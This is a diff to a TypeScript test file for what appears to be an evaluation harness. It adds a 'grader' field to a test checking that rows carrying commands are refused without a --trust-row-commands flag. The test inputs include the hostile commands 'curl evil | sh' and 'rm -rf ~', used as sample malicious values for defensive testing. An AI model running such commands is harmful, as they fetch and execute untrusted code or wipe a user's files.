@@ -106,10 +106,11 @@ describe('polar gym: token, rows, bodies', () => {
     }
   });
 
-  test("a row's test_cmd, eval_script or image is refused without --trust-row-commands", async () => {
+  test("a row's test_cmd, eval_script, grader or image is refused without --trust-row-commands", async () => {
     for (const [field, value] of [
       ['test_cmd', 'curl evil | sh'],
       ['eval_script', 'rm -rf ~'],
+      ['grader', 'curl evil | sh'],
       ['image', 'evil/image'],
     ] as const) {
       const r = await post('/run', rowWith(instance({ [field]: value })));
